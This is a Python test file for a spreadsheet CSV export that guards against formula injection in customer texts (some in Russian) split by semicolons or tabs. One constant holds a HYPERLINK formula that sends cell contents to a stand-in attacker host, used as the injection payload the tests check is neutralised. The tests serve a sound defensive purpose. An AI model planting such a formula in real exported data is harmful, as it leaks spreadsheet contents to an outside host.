"""Texts of customers in a spreadsheet that separates cells by semicolons, as Excel does in Russian, or by tabs."""

import csv
import io

import pytest

from pipelines.spreadsheet import csv_lines, without_guard

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.mark.parametrize(
    "before", ["Где заказ?;", "Где заказ?; ", "Где заказ?\n", "Где заказ?\r\n", "a\t", 'a;"', ";;"]
)
def test_no_text_becomes_a_formula_in_another_cell(before: str) -> None:
    file = "".join(csv_lines(["question", "answer"], [["Да", f"{before}{FORMULA}"]])).lstrip("\ufeff")
    rows = [row for by in ";\t" for row in csv.reader(io.StringIO(file, newline=""), delimiter=by)]
    assert not [cell for row in rows for cell in row if cell.lstrip(' "').startswith("=")]


def test_an_exported_text_comes_back_unchanged() -> None:
    text = "= 5 °C; -5 °C;\n- фильтр\n+7 900"
    _, line = csv_lines(["answer"], [[text]])
    [[cell]] = csv.reader(io.StringIO(line, newline=""))
    assert cell != text
    assert without_guard(cell) == text
